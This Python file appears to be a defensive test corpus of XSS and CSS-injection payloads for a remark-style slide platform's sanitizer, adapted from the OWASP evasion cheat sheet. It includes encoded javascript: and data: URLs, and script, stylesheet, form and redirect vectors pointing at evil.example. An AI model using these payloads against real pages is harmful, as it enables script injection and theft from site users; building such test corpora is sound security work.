"""A corpus of hostile inputs, drawn from the OWASP XSS filter evasion cheat sheet and
the platform's own traps (remark properties, content classes, macros, CSS)."""

SCRIPT_VECTORS = [
    "<script>alert('x1')</script>",
    "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
    "<img src=x onerror=\"alert('x2')\">",
    "<img src=x onerror=alert(3)//",
    '<svg/onload=alert("x4")>',
    "<iframe src=javascript:alert(5)></iframe>",
    '<a href="javascript:alert(6)">link</a>',
    '<a href="JaVaScRiPt:alert(7)">link</a>',
    '<a href="jav&#x09;ascript:alert(8)">link</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(9)">x</a>',
    '<a href=" javascript:alert(10)">x</a>',
    "[click](javascript:alert(11))",
    "[click](JAVASCRIPT:alert(12))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxMyk8L3NjcmlwdD4=)",
    "![img](javascript:alert(14))",
    "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMTUpPg==)",
    "[x](vbscript:msgbox(16))",
    '<div style="background:url(javascript:alert(17))">x</div>',
    '<div style="width: expression(alert(18))">x</div>',
    "<style>body{background:red}</style>",
    '<link rel="stylesheet" href="//evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<base href="//evil.example/">',
    '<form action="//evil.example"><input name="p"></form>',
    '<object data="//evil.example/x.swf"></object>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(19)>",
    "<<script>alert(20)//<</script>",
    "<scr<script>ipt>alert(21)</script>",
    "<img src='x' onerror='alert(22)'",  # unterminated tag
    '"><script>alert(23)</script>',
    "'; alert(24); //",
    "{{ 7*7 }} {% debug %}",
    "\u202eevil\u202c \u200b\u200d zero-width and right-to-left",
    "nul\x00byte",
    ".x[<img src=x onerror=alert(25)>]",
    '![:scale 50%" onerror="alert(26)](img/x.png)',
    "![:scale expression(alert(27))](img/x.png)",
    "![:unknown <script>alert(28)</script>](x)",
]

CLASS_VECTORS = [
    'x" onmouseover="alert(29)',
    "x><script>alert(30)</script>",
    "inverse;background:url(javascript:alert(31))",
    'a"b',
]

BACKGROUND_VECTORS = [
    "url(javascript:alert(32))",
    'url("javascript:alert(33)")',
    "url(data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMzQpPg==)",
    "url(x);color:red",
    'url(x");background:url(javascript:alert(35))',
    "url(x) } body { display:none",
    "expression(alert(36))",
    "url(\\6a avascript:alert(37))",
    "url(//evil.example/track.png)",
]
